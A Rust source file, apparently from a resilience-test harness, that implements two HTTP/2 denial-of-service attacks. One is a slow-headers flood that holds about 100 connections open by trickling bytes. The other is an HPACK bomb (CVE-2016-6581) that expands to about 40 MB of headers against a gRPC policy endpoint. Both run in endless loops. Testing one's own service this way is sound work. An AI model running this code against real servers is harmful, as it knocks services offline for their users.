//! Attacks by the headers of a request.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::frames::{END_HEADERS, HEADERS, HELLO, call, connect, frame, indexed, kept};

const PAUSE: Duration = Duration::from_millis(20);

/// Headers that begin, and of which a byte comes now and then. Nothing else may come on such a connection before their
/// end, not even an answer to a ping.
pub(super) async fn slow(address: SocketAddr) {
    let beginning = half_of_headers();
    let mut open: Vec<TcpStream> = Vec::new();
    loop {
        while open.len() < 100 {
            match connect(address).await {
                Ok(mut stream) => match stream.write_all(&beginning).await {
                    Ok(()) => open.push(stream),
                    Err(_) => break,
                },
                Err(_) => break,
            }
        }
        let mut going = Vec::new();
        for mut stream in open {
            if stream.write_all(&[0]).await.is_ok() {
                going.push(stream);
            }
        }
        open = going;
        sleep(PAUSE * 5).await;
    }
}

/// The greeting, and the beginning of headers of 16,000 bytes.
pub(super) fn half_of_headers() -> Vec<u8> {
    let mut beginning = HELLO.to_vec();
    let headers = frame(HEADERS, END_HEADERS, 1, &[0; 16_000]);
    beginning.extend(&headers[..20]);
    beginning
}

/// A header of 4,000 bytes that the server is to remember, and that is named ten thousand times by a byte each: 40 MB of
/// headers in a frame ("HPACK bomb", CVE-2016-6581).
pub(super) async fn bomb(address: SocketAddr) {
    let mut block = call("/gavel.v1.PolicyDecision/CheckFlow");
    kept(&mut block, "x-bomb", &"y".repeat(4_000));
    block.extend([indexed(62)].repeat(10_000));
    let frame = frame(HEADERS, END_HEADERS, 1, &block);
    loop {
        for _ in 0..5 {
            if let Ok(mut stream) = connect(address).await
                && stream.write_all(HELLO).await.is_ok()
            {
                let _ = stream.write_all(&frame).await;
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}
